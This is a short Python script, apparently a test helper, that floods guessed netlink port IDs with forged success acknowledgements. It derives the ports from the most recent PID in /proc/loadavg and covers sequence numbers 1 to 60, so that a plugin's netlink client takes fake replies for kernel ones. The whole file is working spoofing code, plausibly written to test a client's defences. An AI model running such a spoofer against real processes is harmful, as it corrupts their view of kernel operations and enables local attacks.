"""Sends forged netlink ACKs to every socket that may be a plugin's, until it is killed.

A socket's port is its process's ID, unless another socket of the process has it. Sequence numbers
from 1 to 60 are covered by each datagram, and the real ones are random.
"""

import os
import socket
import struct

NLMSG_ERROR = 2
CAPPED = 0x100

ack = b"".join(
    struct.pack("=IHHIIiIHHII", 36, NLMSG_ERROR, CAPPED, sequence, 4242, 0, 20, 0, 0, sequence, 4242)
    for sequence in range(1, 61)
)
forger = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
forger.bind((0, 0))
print("ready", flush=True)
while True:
    with open("/proc/loadavg", encoding="ascii") as loads:
        last = int(loads.read().split()[4])
    for port in range(last - 8, last + 60):
        if port in (os.getpid(), 0):
            continue
        try:
            forger.sendto(ack, socket.MSG_DONTWAIT, (port, 0))
        except (ConnectionRefusedError, BlockingIOError):
            pass
